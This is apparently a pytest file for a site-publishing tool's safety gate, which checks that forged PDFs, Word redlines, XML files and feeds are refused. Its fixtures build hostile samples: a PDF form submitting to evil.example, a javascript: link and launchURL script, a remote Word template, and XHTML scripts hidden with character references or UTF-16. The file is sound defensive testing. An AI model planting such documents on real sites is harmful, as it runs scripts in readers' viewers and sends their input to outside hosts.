def _form(pdf):
    import pikepdf

    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, Rect=[0, 0, 100, 20], A=submit))]))


def _script_link(pdf):
    import pikepdf

    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 20],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:app.alert(1)"))))]))


@pytest.mark.filterwarnings("ignore:This document has 1 form widget")  # (pikepdf, of the forged form)
def test_a_pdf_that_runs_sends_or_opens_anything_is_not_served(first_published, tmp_path):
    """A hand commit named as a rebuild replaced a version's PDF, its digest in the manifest, by one running
    `app.launchURL('https://evil.example/')` on opening (Chromium's viewer runs a PDF's scripts), and `policy publish`
    served it (exit 0): servedpages read pages, scripts and XML only. A PDF is read now as a viewer reads it (pikepdf:
    objects packed in object streams), and one holding a script (on opening, or in the document's name tree), a form
    that sends what a reader types, or a `javascript:` link is refused, the branch as it was; the PDF publishing prints
    passes and is kept by blob id."""
    project = copy_of(first_published, tmp_path / "project")
    name = "en/2021-02-17/policy-en-2021-02-17.pdf"
    printed = subprocess.run(["git", "cat-file", "blob", f"gh-pages:{name}"], cwd=project.root, capture_output=True,
                             check=True).stdout
    forged = {f"en/x/{forge.__name__}.pdf": _forged_pdf(printed, forge)
              for forge in (_open_action, _named_script, _form, _script_link)}

    with opened(project.root) as site:
        listing = {name: ("100644", stored(project.root, printed)),
                   **{path: ("100644", stored(project.root, data)) for path, data in forged.items()}}
        found = servedpages.unsafe(site, listing)
        held = [line for line in found if ": refused: a PDF holding “" in line]  # (a link no words name: pdflinks too)
        assert [line.partition(": ")[0] for line in held] == sorted(forged), found
        assert {line.partition(": ")[0] for line in found} == set(forged), found
        kept = passcache.blobs_passed(site.passed, text=False, scripts=servedpages._PDF_RULES)
        assert stored(project.root, printed) in kept

    def forge(work):
        data = forged["en/x/_open_action.pdf"]
        (work / name).write_bytes(data)
        _in_manifest(work, {"policy-en-2021-02-17.pdf": data})

    _on_branch(project, tmp_path, forge, "Rebuild 2021-02-17 (en, fr) from 0123456789ab")
    _publish_refused(project, f"error: {name}: refused: a PDF holding “/OpenAction”")


def test_a_word_document_fetching_a_remote_template_is_not_served(tmp_path):
    """A version's redline (changes/redline-….docx) replaced by a hand commit named as a rebuild, its digest in the
    manifest, with one whose settings fetch a template from another host once Word opens it: served, as nothing read
    Word documents (docxactions names what Word would fetch, run or import). Named now; the generator's passes, kept."""
    from unit.test_docxactions import _EXTERNAL, _redline, _rels, _with

    forged = _with(_redline(), {"word/_rels/settings.xml.rels": _rels(_EXTERNAL.format(mode="External"))})
    what = "word/_rels/settings.xml.rels: https://evil.example/t.dotm"
    assert redline_refused(tmp_path, forged) == [
        "fr/2022-03-01/changes/redline-fr-2021-02-17-2022-03-01.docx: "
        + messages.english("publish.docx-active", {"what": what})]


def redline_refused(tmp_path: Path, forged: bytes) -> list[str]:
    """What the publish gate says of a branch serving 2022-03-01's Word redline as the generator printed it (English)
    and as `forged` (French, a hand commit named as a rebuild), in a new project of one commit; the generator's passes
    and is kept as passed (the forged one is not)."""
    from unit.test_docxactions import _redline

    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    printed = stored(project.root, _redline())
    listing = {"en/2022-03-01/changes/redline-en-2021-02-17-2022-03-01.docx": ("100644", printed),
               "fr/2022-03-01/changes/redline-fr-2021-02-17-2022-03-01.docx": ("100644", stored(project.root, forged))}
    with opened(project.root) as site:
        found = servedpages.unsafe(site, listing)
        assert passcache.blobs_passed(site.passed, text=False, scripts=servedpages._DOCX_RULES) == {printed}
    return found


_XHTML_SCRIPT = '<?xml version="1.0"?><r><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></r>'


def test_a_file_of_any_ending_a_host_serves_as_xml_is_judged_as_xml(tmp_path):
    """Session 35, safety6: only .xml, .xsl, .xslt, .rss, .atom and .rdf files were read as XML (as bytes: a character
    reference or UTF-16 hid a namespace); a host serves a hundred
    other endings as an XML type a browser opens as a document (GitHub Pages' `.xsd` and `.rng` as application/xml,
    `.mml`, `.kml`, `.svgz` as image/svg+xml: Chromium ran its script), and a hand commit putting one with XHTML's script
    into a version's folder, its digest in the manifest, was served by `policy publish` and `policy export`. Every file
    of the tree is read so now but those a browser never opens as XML (pages the output check reads, scripts,
    stylesheets, JSON, PDFs, Word documents, images, fonts); a font, a JSON file holding the same words, and a CNAME
    file pass."""
    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    evil = ("a.xsd", "a.rng", "a.mml", "a.kml", "logo.svgz", "notes", "a.XSD")
    harmless = {"CNAME": b"policies.example.test\n", "words.json": json.dumps({"x": _XHTML_SCRIPT}).encode(),
                "font.woff2": b"wOF2" + _XHTML_SCRIPT.encode()}
    evil_data = {name: (_XHTML_SCRIPT + f"<!-- {name} -->").encode() for name in evil}
    # and an .xml file whose namespace a character reference writes, or that is UTF-16 (Chromium ran both)
    evil_data |= {"ref.xml": _XHTML_SCRIPT.replace("http://", "http&#58;//").encode(),
                  "utf16.xml": b"\xff\xfe" + _XHTML_SCRIPT.encode("utf-16-le"),
                  # an XHTML page whose root is not <html>: the output check's HTML parser read no script in it
                  "page.xhtml": _XHTML_SCRIPT.encode(),
                  "page.xht": b'<r xmlns="http://www.w3.org/1999/xhtml"><title><script>alert(1)</script></title></r>'}
    listing = {f"en/2021-02-17/{name}": ("100644", subprocess.run(
        ["git", "hash-object", "-w", "--stdin"], cwd=project.root, input=data, capture_output=True,
        check=True).stdout.decode().strip()) for name, data in (evil_data | harmless).items()}
    with opened(project.root) as site:
        found = servedpages.unsafe(site, listing)
    assert sorted({line.partition(":")[0] for line in found}) == sorted(f"en/2021-02-17/{name}" for name in evil_data), \
        found
    # (each as XML; an XHTML page, no page of the theme's, is refused by the output check too: output.no-article)
    assert all(any(line.startswith(f"en/2021-02-17/{name}: refused: an XML file holding “http://www.w3.org/1999/xhtml”")
                   for line in found) for name in evil_data), found


def test_a_search_tag_a_feeds_html_summary_and_a_deleted_word_field_are_not_served(first_published, tmp_path):
    """Safety hunt 52 (tests/unit/test_gate_catalogue52.py for each form): a version's search index whose entry's tag
    the results would show as a link off the site, the feed's entry given an HTML summary holding a tracker's image,
    and a version's Word document holding a field in a tracked deletion, each put on the branch, were served; each is
    now named, in English and in French, and the tree as published still passes."""
    from unit.test_docxactions import _redline, _with

    project = copy_of(first_published, tmp_path / "project")
    index = json.dumps({"config": {"lang": ["en"]}, "docs": [{"location": "#s1", "title": "1. Document version",
                                                               "text": "<p>Dated.</p>", "tags": [
                                                                   '<a href="https://evil.example/">Object</a>']}]})
    feed = ('<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><entry><title>x</title>'
            '<summary type="html">&lt;img src="https://tracker.example/p.png"&gt;</summary></entry></feed>')
    data = _redline()
    document = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").replace(
        b"<w:body>", b'<w:body><w:p><w:del w:id="9" w:author="Zephyr Widgets SAS"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
                     b'<w:delInstrText> INCLUDEPICTURE "https://tracker.example/p.png" \\d </w:delInstrText></w:r>'
                     b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:del></w:p>', 1)
    with opened(project.root) as site:
        listing = git.list_files(site.repo, "gh-pages")
        assert servedpages.unsafe(site, listing) == []
        forged = {"en/2021-02-17/search/search_index.json": index.encode(), "en/feed.xml": feed.encode(),
                  "en/2021-02-17/changes/redline.docx": _with(data, {"word/document.xml": document})}
        listing.update({path: ("100644", stored(project.root, body)) for path, body in forged.items()})
        found = sorted(servedpages.unsafe(site, listing))
    assert [line.partition(": ")[0] for line in found] == [
        "en/2021-02-17/changes/redline.docx", "en/2021-02-17/search/search_index.json", "en/feed.xml"], found
    assert "<delInstrText>" in found[0] and "evil.example" in found[1] and "https://tracker.example/p.png" in found[2]
    french = [messages.said_in(line, "fr") for line in found]
    assert all(line.split(": ", 1)[1].startswith("refusé\u00a0: ") for line in french), french
    assert "«\u00a0https://tracker.example/p.png\u00a0»" in french[2], french[2]


def test_a_json_feed_on_the_branch_naming_another_host_is_refused_and_the_site_s_own_passes(tmp_path):
    """Safety59: a `feed.json` put on the branch (a JSON Feed, which a reader app shows: an item's `content_html` as
    HTML, its image fetched) was read by no rule of the output check and served; named now, at every path holding it,
    and one naming the site's own pages passes and is kept."""
    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    with opened(project.root) as site:
        own = f"{site.settings.public_url}en/2021-02-17/"

        def feed(html: str) -> str:
            return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "Policy", "home_page_url": own,
                               "items": [{"id": "2021-02-17", "url": own, "content_html": html}]})

        forged = stored(project.root, feed('<p>Changed.<img src="https://tracker.example/p.png" alt=""></p>'))
        fine = stored(project.root, feed(f'<p>Changed <a href="{own}#s2">§2</a>.</p>'))
        listing = {"feed.json": ("100644", forged), "en/feed.json": ("100644", forged), "en/feed": ("100644", forged),
                   "en/feed.txt": ("100644", forged), "en/2021-02-17/feed.json": ("100644", fine)}
        found = servedpages.unsafe(site, listing)
        # (a reader reads the address it is given whatever the host says it is: no ending, a text's)
        assert sorted(line.partition(": ")[0] for line in found) == ["en/feed", "en/feed.json", "en/feed.txt",
                                                                     "feed.json"], found
        assert "“https://tracker.example/p.png”" in found[0], found
        assert servedpages.unsafe(site, {"en/2021-02-17/feed.json": listing["en/2021-02-17/feed.json"]}) == []


def test_a_word_document_or_pdf_saying_who_made_it_is_not_served(tmp_path):
    """safety61: a version's redline and print replaced by a hand commit with Word's own properties (the template path
    of a machine's Office, its company) and a PDF naming its author: served, as nothing read their metadata. Named now;
    the generator's pass, kept."""
    import pikepdf

    from unit.test_docxactions import _redline, _with

    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    printed = _redline()
    forged = _with(printed, {"docProps/app.xml": b"<Properties><Template>C:\\Users\\jdoe\\Normal.dotm</Template>"
                                                 b"</Properties>"})
    document = pikepdf.new()
    document.add_blank_page()
    document.docinfo["/Author"] = "jdoe"
    out = io.BytesIO()
    document.save(out)

    listing = {"en/2022-03-01/changes/redline-en-2021-02-17-2022-03-01.docx": ("100644", stored(project.root, printed)),
               "fr/2022-03-01/changes/redline-fr-2021-02-17-2022-03-01.docx": ("100644", stored(project.root, forged)),
               "fr/privacy-fr-2022-03-01.pdf": ("100644", stored(project.root, out.getvalue()))}
    with opened(project.root) as site:
        found = servedpages.unsafe(site, listing)
    assert sorted(line.partition(": refused: ")[::2] for line in found) == [
        ("fr/2022-03-01/changes/redline-fr-2021-02-17-2022-03-01.docx",
         messages.english("publish.docx-private", {"what": "docProps/app.xml"}).removeprefix("refused: ")),
        ("fr/privacy-fr-2022-03-01.pdf",
         messages.english("publish.pdf-private", {"what": "/Info /Author"}).removeprefix("refused: "))], found


def test_a_pdf_drawing_words_outside_its_pages_content_is_not_served(tmp_path):
    """safety65: a version's print replaced by a hand commit drawing "We sell your data." in a form its page draws by
    name, or in a link's appearance: what a reader sees and copies, read by no check (pdftext reads a page's own
    content). Named now, with its page; the print passes."""
    from unit.test_safety61_documents import _printed
    from unit.test_safety65_pdf_unread import _forged, in_annotation, in_form

    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")

    listing = {"fr/privacy-fr-2022-03-01.pdf": ("100644", stored(project.root, _forged(in_form, pages=2))),
               "en/privacy-en-2022-03-01.pdf": ("100644", stored(project.root, _forged(in_annotation))),
               "en/2022-03-01/changes/redline-en-2021-02-17-2022-03-01.pdf": ("100644",
                                                                              stored(project.root, _printed()))}
    with opened(project.root) as site:
        found = servedpages.unsafe(site, listing)
    unread = [line for line in found if "drawing words outside" in line]
    assert unread == [
        "en/privacy-en-2022-03-01.pdf: " + messages.english("publish.pdf-unread", {"what": "1: /Annots 1 /AP /N Tj"}),
        "fr/privacy-fr-2022-03-01.pdf: " + messages.english("publish.pdf-unread", {"what": "2: /XObject /Fm0 Tj"})], found
    assert not [line for line in found if line.startswith("en/2022-03-01/")], found
